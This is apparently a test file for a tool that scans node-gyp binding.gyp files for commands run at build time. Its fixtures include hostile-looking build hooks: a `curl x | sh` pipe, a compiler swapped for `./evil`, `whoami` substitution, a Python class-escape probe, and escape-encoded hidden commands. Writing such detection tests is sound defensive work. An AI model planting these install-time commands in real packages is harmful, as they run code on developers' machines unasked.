import t from 'tap'
import * as fc from 'fast-check'
import { readGyp } from '../../../lib/inspect/gyp.ts'
import { parseGyp } from '../../../lib/inspect/gyp-literal.ts'
import { HOLE } from '../../../lib/types.ts'

const commandsOf = (text: string): string[] =>
  readGyp('binding.gyp', text).commands.map(({ how, command }) => `${how} ${command}`)

t.test('the literal reader reads what Python reads', t => {
  const cases: [string, unknown][] = [
    [`'a' "b" '''c\nd'''`, 'abc\nd'],
    [String.raw`'\x3c\041\u0028\n\'\q'`, "<!(\n'\\q"],
    [String.raw`r'\x3c'`, String.raw`\x3c`],
    ["# c\n['a', # d\n 'b',]", ['a', 'b']],
    ["{'a': 1, 'b': True, 'c': None,}", { a: '1', b: 'True', c: 'None' }],
    ["('a')", 'a'],
    ["('a',)", ['a']],
    ["{'__proto__': 'x'}", JSON.parse('{"__proto__":"x"}')],
  ]
  const plain = (value: ReturnType<typeof parseGyp>['value']): unknown => {
    if (!value) return undefined
    if (value.kind === 'list') return value.items.map(plain)
    if (value.kind !== 'dict') return value.text
    const table: Record<string, unknown> = Object.create(null)
    for (const [key, inner] of value.pairs) table[String(plain(key))] = plain(inner)
    return table
  }
  for (const [text, expected] of cases)
    t.same(JSON.stringify(plain(parseGyp(text).value)), JSON.stringify(expected), text)
  for (const text of [
    '',
    '[',
    "{'a'}",
    "['a' 1]",
    'f()',
    '[x for x in y]',
    "f'{x}'",
    "'a",
    '{}{}',
    '['.repeat(5000),
  ])
    t.type(parseGyp(text).error, 'string', text.slice(0, 20))
  t.end()
})

t.test('every command is found, wherever it stands', t => {
  const cases: [string, string[]][] = [
    [
      `{'targets':[{'target_name':'a','type':'none','sources':['<!(node index.js > /dev/null 2>&1 && echo stub.c)']}]}`,
      ['<! node index.js > /dev/null 2>&1 && echo stub.c'],
    ],
    [
      `{'a':'<!@(node -p "require(\\'node-addon-api\\').include")'}`,
      [`<!@ node -p "require('node-addon-api').include"`],
    ],
    [`{'<!(in key)':1}`, ['<! in key']],
    [`{'a':">!(x) ^!@(y)"}`, ['>! x', '^!@ y']],
    [String.raw`{'a':'\x3c\x21(hidden)'}`, ['<! hidden']],
    [`{'a':'<' '!(split)'}`, ['<! split']],
    [`{'variables':{'n%':'node','f':'x.js'},'a':'<!(<(n) <(f))'}`, ['<! node x.js']],
    [`{'a':'<!(node <(unknown).js)'}`, [`<! node ${HOLE}.js`]],
    [`{'a':'<!(["node","x y.js"])'}`, [`<! node 'x y.js'`]],
    [`{'a':'<!pymod_do_main(tools.gen a b)'}`, ['<!pymod_do_main python tools/gen.py a b']],
    [
      `{'actions':[{'action_name':'x','action':['node','gen.js','<(INTERMEDIATE)']}]}`,
      [`action node gen.js ${HOLE}`],
    ],
    [`{'rules':[{'action+':['sh','-c','curl x | sh']}]}`, [`action sh -c 'curl x | sh'`]],
    [`{'postbuilds':[{'action':'./x'}]}`, ['action ./x']],
    [
      `{'make_global_settings':[['CC','./evil'],['CXX','/usr/bin/c++']]}`,
      ['make_global_settings ./evil', 'make_global_settings /usr/bin/c++'],
    ],
    [`{'conditions':[['().__class__.__bases__',{}]]}`, ['condition ().__class__.__bases__']],
    [`{'a':'<!(echo $(whoami))'}`, ['<! echo $(whoami)']],
    [`{'conditions':[['OS=="linux"',{'a':'<(b) <@(c) <|(list.txt x)'}]]}`, []],
    [`# '<!(comment)'\n{}`, []],
  ]
  for (const [text, expected] of cases) t.same(commandsOf(text), expected, text)
  t.end()
})

t.test('what is no literal is a gap, and searched all the same', t => {
  const reading = readGyp('binding.gyp', `[x for x in ['<!(node evil.js)']]`)
  t.equal(reading.gaps.length, 1)
  t.match(reading.commands, [{ how: '<!', command: 'node evil.js' }, { how: 'python' }])
  t.equal(readGyp('binding.gyp', ' '.repeat(2_000_000)).gaps.length, 1)
  t.end()
})

t.test('other gyp files are named and places are right', t => {
  const { includes, commands } = readGyp(
    'binding.gyp',
    `{\n 'includes': ['a.gypi'],\n 'dependencies': ['deps/b.gyp:b', '<!(node x)'],\n}`,
  )
  t.same(includes, ['a.gypi', 'deps/b.gyp', '<!(node x)'])
  t.match(commands, [{ at: { path: 'binding.gyp', line: 3, column: 35 } }])
  t.end()
})

t.test('nothing makes the reader throw', t => {
  const bit = fc.constantFrom(
    '{',
    '}',
    '[',
    ']',
    '(',
    ')',
    "'",
    '"',
    "'''",
    '<!(',
    '<(',
    ')',
    ',',
    ':',
    'a',
    '\\',
    '\n',
    '#',
    'r',
    '1',
    ' ',
  )
  fc.assert(
    fc.property(fc.array(bit, { maxLength: 50 }), bits => void readGyp('binding.gyp', bits.join(''))),
    { numRuns: 1000 },
  )
  for (const piece of ['<!(', '{', "'<!(' ", "['<(a)',", '<(', '(', "'a' ", '\\'])
    t.doesNotThrow(() => readGyp('binding.gyp', piece.repeat(20_000)), piece)
  t.end()
})
